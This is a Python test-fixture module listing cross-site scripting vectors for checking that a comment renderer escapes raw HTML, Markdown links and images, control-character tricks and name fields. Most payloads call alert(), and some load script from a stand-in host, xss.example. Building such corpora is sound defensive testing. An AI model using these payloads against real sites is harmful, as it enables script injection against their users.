"""A corpus of script-injection vectors for readers' comments, written for these tests.

The families follow the published filter-evasion catalogues (OWASP's XSS Filter Evasion Cheat
Sheet, PortSwigger's XSS cheat sheet, the HTML5 Security Cheatsheet): raw tags and event
attributes, dangerous URL schemes obfuscated with entities, case, whitespace and control
characters, markup that other parsers read differently (mutation XSS), and the same through
Markdown's own links, images, autolinks, references and code. Every vector that could run
calls alert(), so a browser that runs one shows a dialog.
"""

from __future__ import annotations

ENCODED_DEC = "".join(f"&#{ord(c)};" for c in "javascript:alert(1)")
ENCODED_DEC_PADDED = "".join(f"&#{ord(c):07d}" for c in "javascript:alert(1)")
ENCODED_HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:alert(1)")
B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

# Raw HTML a reader might type: must be shown as text, never become markup.
RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<script/xss src=//xss.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    f"<IMG SRC={ENCODED_DEC}>",
    f"<IMG SRC={ENCODED_DEC_PADDED}>",
    f"<IMG SRC={ENCODED_HEX}>",
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    "<img src=1 onerror=alert&#40;1&#41;>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<body onpageshow=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<math href="javascript:alert(1)">x</math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import'javascript:alert(1)';</style>",
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    f'<embed src="data:text/html;base64,{B64_SCRIPT}">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javas&Tab;cript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="javascript&#x3A;alert(1)">x</a>',
    f"<a href=data:text/html;base64,{B64_SCRIPT}>x</a>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "<template><script>alert(1)</script></template>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<x onclick=alert(1)>click</x>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</p><script>alert(1)</script><p>",
    "</textarea><script>alert(1)</script>",
    "<p>ok</p><script>alert(1)</script>",
]

# The same through Markdown's own syntax: links, images, autolinks, references, code.
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](javascript://%0aalert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    f"[x](data:text/html;base64,{B64_SCRIPT})",
    "[x](DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
    "[x](ｊａｖａｓｃｒｉｐｔ:alert(1))",
    "[x](//xss.example/x.js)",
    "[x](/relative/path)",
    '[x](https://example.org/" onmouseover="alert(1))',
    '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
    "![x](javascript:alert(1))",
    f"![x](data:image/svg+xml;base64,{B64_SCRIPT})",
    '![x" onerror="alert(1)](https://images.example.com/x.png)',
    '![x](https://images.example.com/x.png" onerror="alert(1))',
    "![<img src=x onerror=alert(1)>](https://images.example.com/x.png)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    f"<data:text/html;base64,{B64_SCRIPT}>",
    "<vbscript:msgbox(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: https://example.org "a\\" onmouseover=\\"alert(1)"',
    "[x][r]\n\n[r]: <data:text/html,alert(1)>",
    "javascript:alert(1) and vbscript:msgbox(1) written bare",
    "http://xss.example/<script>alert(1)</script>",
    'https://example.org/?q="><script>alert(1)</script>',
    "mailto:x@example.org?subject=<script>alert(1)</script>",
    '```"><script>alert(1)</script>\ncode\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "> <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    "**<svg onload=alert(1)>**",
    "# <script>alert(1)</script>",
]

# Only the renderer sees these: the loader refuses files with control characters, raw or
# written as character references.
CONTROL = [
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    "[x](java&#1;script:alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](java\x01script:alert(1))",
    '<a href="java\x0bscript:alert(1)">x</a>',
    "<img src=x onerror\x0c=alert(1)>",
]

VECTORS = RAW_HTML + MARKDOWN
# Names and titles are plain text everywhere: <title>, meta tags, feeds, letters, attributes.
NAMES = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "]]><script>alert(1)</script>",
    "{{ 7*7 }} {% raw %}",
]
